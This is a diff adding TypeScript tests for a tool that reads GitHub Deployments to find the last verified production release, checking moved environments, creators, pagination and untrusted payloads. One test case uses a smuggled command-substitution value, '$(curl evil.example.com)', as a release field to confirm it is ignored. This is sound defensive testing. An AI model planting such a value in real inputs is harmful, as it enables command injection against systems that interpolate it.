@@ -76,6 +76,58 @@ test('Deployments of jobs and of other environments are not among them', async (
   expect(await github.deployments('production', 30)).toEqual([]);
 });
 
+test('a Deployment of staging that a status moved to production proves nothing there', async () => {
+  const { stood, github } = await connected();
+  await noteVerified(github, note('v1', 'staging'));
+  const [first] = stood.state.deployments;
+  if (first !== undefined)
+    stood.state.deployments[0] = { ...first, environment: 'production', originalEnvironment: 'staging' };
+  expect(await github.deployments('production', 30)).toEqual([]);
+});
+
+test('who made a Deployment is told, because anybody who may write could have', async () => {
+  const { stood, github } = await connected();
+  await noteVerified(github, note('v1'));
+  await noteVerified(github, note('v2'));
+  const [first] = stood.state.deployments;
+  if (first !== undefined) first.creator = 'mallory';
+  expect((await github.deployments('production', 30)).map(({ by }) => by)).toEqual(['github-actions[bot]', 'mallory']);
+  stood.trouble({ kind: 'gone-accounts' });
+  expect((await github.deployments('production', 30)).map(({ by }) => by)).toEqual([null, null]);
+});
+
+test('more than one page of them is read, the newest first, as far as it is wanted', async () => {
+  const { stood, github } = await connected();
+  await noteVerified(github, note('v0'));
+  const [first] = stood.state.deployments;
+  if (first === undefined) throw new Error('it was noted');
+  for (let id = 1; id <= 250; id += 1) {
+    stood.state.deployments.push({
+      ...first,
+      id: 1000 + id,
+      payload: { ...(first.payload as object), release: `v${id}` },
+    });
+  }
+  const all = await github.deployments('production', 1000, 'payloads');
+  expect(all.map(({ payload }) => payload?.release)).toEqual(Array.from({ length: 251 }, (_, at) => `v${250 - at}`));
+  expect((await github.deployments('production', 120, 'payloads')).at(-1)?.payload?.release).toBe('v131');
+  expect(stood.log.filter(({ operation }) => operation === 'repos/list-deployment-statuses')).toEqual([]);
+});
+
+test.each([
+  ['huge', { note: 'x'.repeat(1024 * 1024) }],
+  ['a text', 'deploy this, please'],
+  ['one that looks like ours', { schema_version: 1, kind: 'verified-health', release: '$(curl evil.example.com)' }],
+])('a payload of somebody that is %s hides nothing and is nothing', async (_what, payload) => {
+  const { stood, github } = await connected();
+  await noteVerified(github, note('v1'));
+  const [first] = stood.state.deployments;
+  if (first !== undefined) stood.state.deployments.push({ ...first, id: 50, payload });
+  const found = await github.deployments('production', 30);
+  expect(found.map(({ payload: read }) => read?.release ?? null)).toEqual([null, 'v1']);
+  expect(lastKnownGood(found)?.payload?.release).toBe('v1');
+});
+
 test('a Deployment whose status never arrived proves nothing', async () => {
   const { stood, github } = await connected();
   const end = stood.trouble({ kind: 'errors', status: 500 }, { only: ['repos/create-deployment-status'] });
